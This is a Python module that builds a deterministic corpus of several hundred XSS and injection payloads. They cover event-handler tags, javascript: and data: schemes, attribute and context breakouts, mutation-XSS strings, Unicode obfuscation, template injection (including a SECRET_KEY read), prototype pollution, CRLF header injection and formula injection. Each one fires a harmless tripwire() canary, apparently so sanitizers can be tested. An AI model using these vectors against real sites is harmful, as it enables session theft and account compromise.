"""Several hundred ways to put code where words belong, made by combination.

Each calls `tripwire()`, asks for /tripwire, or brings an element or attribute that is named for it, so that a
page which lets it in shows that, whether it runs or not. Deterministic: the same list at every run.
"""

from collections.abc import Iterator
from itertools import islice, product

CALL = "tripwire()"
# A tag that fires by itself, and the handler by which it does.
FIRING = [
    ("img src=x", "onerror"),
    ("img src=/tripwire.png", "onload"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("svg><animate begin=0s dur=1s attributeName=x", "onbegin"),
    ("svg><set begin=0s attributeName=x", "onbegin"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("video src=x", "onerror"),
    ("video><source src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a href=# autofocus", "onfocus"),
    ("div tabindex=0 autofocus", "onfocus"),
    ("style", "onload"),
    ("link rel=stylesheet href=/tripwire.css", "onerror"),
    ("script src=/tripwire.js", "onerror"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("iframe src=/tripwire", "onload"),
    ("iframe srcdoc=x", "onload"),
    ("marquee", "onstart"),
    ("input type=image src=x", "onerror"),
    ("dialog open", "onclose"),
    ("meter value=1", "onpointerover"),
    ("trip-wire style=animation:x", "onanimationstart"),
    ("form", "onformdata"),
    ("frameset", "onload"),
]
# How a handler is joined to its tag, and how its value is quoted.
JOINED = [" ", "/", "\t", "\n", "\f", " x=1 ", "//", "\r\n"]
QUOTED = ["{}", '"{}"', "'{}'", "`{}`", "{}//", '"{};"', " = {}"]
SCHEMES = [
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    " \x01javascript:{}",
    "javascript://%0a{}",
    "javascript:/*--></title></style>*/{}",
    "&#106;avascript:{}",
    "&#x6A;avascript&colon;{}",
    "java&Tab;script&colon;{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD50cmlwd2lyZSgpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload={}>",
    "vbscript:{}",
    "feed:javascript:{}",
    "view-source:javascript:{}",
    "\u00a0javascript:{}",
    "//tripwire.example/x.js",
]
CARRIERS = [
    '<a href="{}">x</a>',
    '<form action="{}"><input type=submit autofocus>',
    '<button formaction="{}">x',
    '<iframe src="{}">',
    '<object data="{}">',
    '<embed src="{}">',
    '<svg><a xlink:href="{}"><text y=9>x</text></a>',
    '<math href="{}">x</math>',
    '<base href="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<img srcset="{}">',
    '<area href="{}">',
]
# What leaves an attribute, an element, a comment, a string or a block, and then begins.
LEAVING = ['">', "'>", "</textarea>", "</title>", "</style>", "</script>", "</noscript>", "</select>", "-->"]
LEAVING += ["]]>", "</svg>", "</template>", "`>", "</option>", "--!>", "*/", '"]}', "\u2028", "%>", "?>"]
BEGINNING = [
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<trip-wire>",
    "<script src=/tripwire.js></script>",
]
WITHIN = [
    '" onfocus={} autofocus x="',
    "' onfocus={} autofocus x='",
    '" style=animation:x onanimationstart={} "',
    '" srcdoc="<script>{}</script>',
    '" formaction=javascript:{} type=submit x="',
    "` onerror={} `",
    '"}};{};//',
    "'-{}-'",
    '"-{}-"',
    "\\'-{}//",
    '\\"-{}//',
    "${{{}}}",
    "`${{{}}}`",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\\x3cimg src=x onerror={}\\x3e",
    "&lt;img src=x onerror={}&gt;",
    "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;",
    "%3Cscript%3E{}%3C/script%3E",
    "%253Cimg%20src=x%20onerror={}%253E",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "<!--<script>{}",
    "<![CDATA[<script>{}</script>]]>",
]
# What a parser makes of it a second time is not what it was the first time.
MUTATING = [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={}&gt;">',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror={}>">',
    '<svg></p><style><a id="</style><img src=1 onerror={}>">',
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<select><iframe></select><img src=x onerror={}>",
    '<svg><title><style><img src="</style><img src=x onerror={}//">',
    '<xmp><p title="</xmp><svg/onload={}>">',
    '<textarea><img title="</textarea><img src=x onerror={}>">',
    "<template><style></template><img src=x onerror={}>",
    "<table><td background=/tripwire><tr><style><math><img src=x onerror={}>",
    "<svg><foreignObject><math><annotation-xml encoding=text/html><img src=x onerror={}>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror={}>',
    "<a><svg></a><style><!--</style><img src=x onerror={}>-->",
    "<listing>&lt;img onerror={} src=x></listing>",
    "<p><svg><style>&lt;/style&gt;&lt;img src=x onerror={}&gt;</style></svg></p>",
    "<!--!><img src=x onerror={}>-->",
    "<!--><img src=x onerror={}>",
    "<?x ><img src=x onerror={}>",
    "</ ><img src=x onerror={}>",
    "<%<!--'%><script>{};</script -->",
]
STRANGE = [
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "<\u200bscript>{}</script>",
    "<scr\x00ipt>{}</scr\x00ipt>",
    "<img\u2028src=x\u2028onerror={}>",
    "\u202e<script>{}</script>\u202c",
    "\ufeff<svg onload={}>",
    "<\u0073cript>{}</\u0073cript>",
    "<\u017fcript>{}</\u017fcript>",
    "<\u0131mg src=x onerror={}>",
    "<svg on\u00adload={}>",
    "\U0001f600<img src=x onerror={}>\U0001f600",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror\x0b={}>",
    "<<script>{}//<</script>",
    '<IMG """><SCRIPT>{}</SCRIPT>">',
    "<ScRiPt\x0d\x0a>{}</sCrIpT\x09>",
]
STYLED = [
    "<style>@import '/tripwire.css';</style>",
    "<style>*{background:url(/tripwire.png)}</style>",
    "<p style=\"background:url('/tripwire.png')\">x",
    '<p style="width:expression({})">x',
    '<p style="-moz-binding:url(/tripwire.xml#x)">x',
    "<link rel=stylesheet href=/tripwire.css>",
    "<link rel=preload as=script href=/tripwire.js>",
    "<link rel=prefetch href=/tripwire>",
    "<link rel=dns-prefetch href=//tripwire.example>",
    "</style><style>body{{background:url(/tripwire.png)}}",
    "};*{{background:url(/tripwire.png)}}",
]
DRAWN = [
    "<svg><script>{}</script></svg>",
    '<svg><script href="data:text/javascript,{}"></script></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload={}/>#x"></use></svg>',
    "<svg><animate xlink:href=#t attributeName=href values=javascript:{} /><a id=t><text y=9>x</text></a>",
    "<svg><image href=x onerror={}></svg>",
    "<svg><image href=/tripwire.png></svg>",
    "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
    "<svg><handler xmlns:ev=x ev:event=load>{}</handler></svg>",
    '<math><maction actiontype=statusline xlink:href="javascript:{}">x</maction></math>',
    '<math><mi xlink:href="javascript:{}">x</mi></math>',
]
WRITTEN = [
    "[x](javascript:{})",
    "![x](/tripwire.png)",
    '![x"onerror="{}](x)',
    "<javascript:{}>",
    'https://example.org/"onmouseover="{}',
    "https://example.org/<img src=x onerror={}>",
    'mailto:a"onfocus={}@example.org',
    "{{{{constructor.constructor('{}')()}}}}",
    "{{{{ settings.SECRET_KEY }}}}{{% load tripwire %}}",
    "{{% include '/tripwire' %}}",
    "#{{{}}}",
    "<%= {} %>",
    "{{{{7*7}}}}${{{}}}<%= {} %>",
    "[[${{{}}}]]",
    '{{"__proto__":{{"innerHTML":"<img src=x onerror={}>"}}}}',
    '<form id=app><input name=innerHTML value="{}">',
    '<a id=data href="javascript:{}">x</a>',
    "<img name=getElementById src=x onerror={}>",
    "x\r\nSet-Cookie: tripwire=1\r\n\r\n<script>{}</script>",
    '=HYPERLINK("/tripwire","{}")',
]


def _fill(shape: str) -> str:
    """Put the call into a shape; a brace of the payload's own is written twice."""
    return shape.replace("{}", CALL).replace("{{", "{").replace("}}", "}")


def firing() -> Iterator[str]:
    """Every tag with every handler, and each joined and quoted in two of the ways, in turn."""
    for number, (tag, handler) in enumerate(FIRING):
        for turn in range(6):
            joined = JOINED[(number + turn) % len(JOINED)]
            quoted = QUOTED[(number * 2 + turn) % len(QUOTED)]
            name = handler if turn % 2 else handler.upper()
            yield f"<{tag}{joined}{name}={_fill(quoted)}>"


def schemes() -> Iterator[str]:
    for number, (carrier, scheme) in enumerate(product(CARRIERS, SCHEMES)):
        if number % 2 == 0:
            yield _fill(carrier.replace("{}", scheme))


def leaving() -> Iterator[str]:
    for left, begun in product(LEAVING, BEGINNING):
        yield f"x{left}{_fill(begun)}"


FAMILIES = {
    "tags and handlers": list(firing()),
    "schemes": list(schemes()),
    "breaking out": list(leaving()),
    "inside attributes, strings and encodings": [_fill(shape) for shape in WITHIN],
    "mutation": [_fill(shape) for shape in MUTATING],
    "strange characters": [_fill(shape) for shape in STRANGE],
    "styles and links": [_fill(shape) for shape in STYLED],
    "SVG and MathML": [_fill(shape) for shape in DRAWN],
    "other languages": [_fill(shape) for shape in WRITTEN],
}


def every() -> list[str]:
    """Return all of them, each once."""
    return list(dict.fromkeys(payload for family in FAMILIES.values() for payload in family))


def some(many: int = 48) -> list[str]:
    """Return so many, of every family."""
    from_each = -(-many // len(FAMILIES))
    return [
        payload
        for family in FAMILIES.values()
        for payload in islice(family, 0, None, max(1, len(family) // from_each))
    ]


def batches(payloads: list[str], *, longest: int) -> list[str]:
    """Join payloads with blank lines into texts of at most so many characters."""
    texts: list[str] = [""]
    for payload in payloads:
        if len(texts[-1]) + len(payload) + 1 > longest:
            texts.append("")
        texts[-1] += f"{payload}\n"
    return texts
